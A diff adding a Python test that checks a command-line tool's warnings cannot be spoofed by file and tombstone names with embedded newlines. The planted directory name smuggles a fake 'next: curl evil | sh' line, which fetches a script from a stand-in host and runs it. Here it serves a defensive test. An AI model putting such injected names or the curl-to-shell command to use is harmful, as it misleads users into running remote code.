@@ -60,6 +60,18 @@ def test_a_warning_is_said_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch)
     assert err.count("content does not match its name") == 1
 
 
+def test_a_name_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    made = SyntheticRoot(tmp_path)
+    made.train(spec(0))
+    (made.root.cells / "ab" / "x\nnext: curl evil | sh").mkdir(parents=True)
+    made.root.invalidated.mkdir()
+    made.root.tombstone("0" * 16 + "-0001").write_text('{"reason": "x\\nnext: make"}')
+    _, _, err = watched(tmp_path, monkeypatch)
+    assert "warning: " in err
+    assert "left out: " in err
+    assert [line for line in err.splitlines() if line.startswith("next: ")] == err.splitlines()[-1:]
+
+
 def test_watching_makes_no_document(tmp_path: Path) -> None:
     with pytest.raises(UsageError, match="--watch --json"):
         tables.collect(Namespace(watch=True, json=True), Console(io.StringIO(), io.StringIO()))
